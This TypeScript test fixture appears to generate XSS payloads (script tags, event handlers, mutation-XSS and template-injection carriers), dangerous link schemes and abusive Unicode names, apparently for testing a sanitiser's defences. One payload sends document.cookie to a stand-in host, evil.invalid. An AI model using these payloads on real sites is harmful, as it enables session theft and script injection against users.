/** What a hostile string would do if anything of it ran; the tests look for the trace. */
const deeds = [
  "globalThis.hostileRan=1",
  "top.hostileRan=1",
  "parent['hostileRan']=1",
  "eval('hostileRan=1')",
  "setTimeout('hostileRan=1')",
  "Function('hostileRan=1')()",
  "document.title='hostileRan'",
  "alert('hostileRan')",
  "window.open('https://evil.invalid/')",
  "new Image().src='https://evil.invalid/'+document.cookie",
];

const carriers: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<svg/onload="${deed}">`,
  (deed) => `"><script>${deed}</script><b x="`,
  (deed) => `</style></title></textarea><img src=x onerror="${deed}">`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  (deed) => `<a href="javascript:${deed}" autofocus onfocus="${deed}">open</a>`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `{{constructor.constructor("${deed}")()}} \${${deed}}`,
  (deed) => `<math><mtext><table><mglyph><style><img src onerror="${deed}">`,
];

/** A hundred strings that run something wherever text is taken for markup, a template or an address. */
export const hostileStrings: readonly string[] = carriers.flatMap((carry) => deeds.map(carry));

export const hostileLinks: readonly string[] = [
  "javascript:globalThis.hostileRan=1",
  "JaVaScRiPt:globalThis.hostileRan=1",
  " javascript:globalThis.hostileRan=1",
  "java\nscript:globalThis.hostileRan=1",
  "data:text/html,<script>globalThis.hostileRan=1</script>",
  "vbscript:globalThis.hostileRan=1",
  "file:///etc/passwd",
  "https://evil.invalid/\u202Egnp.exe",
];

/** Names that reverse, pile up, or take up all the room. */
export const hostileNames: readonly string[] = [
  "\u202Eecilop eht\u202C",
  "\u2067\u2066override\u2069",
  `Z${"\u0334\u0321\u035d\u0347\u0301\u0300\u0315".repeat(40)}algo`,
  "\u200B\u200B\u200B",
  "W".repeat(400),
  "﷽".repeat(50),
  "👩‍👩‍👧‍👦".repeat(60),
  "\u0000\u0007\u001B[31m",
];
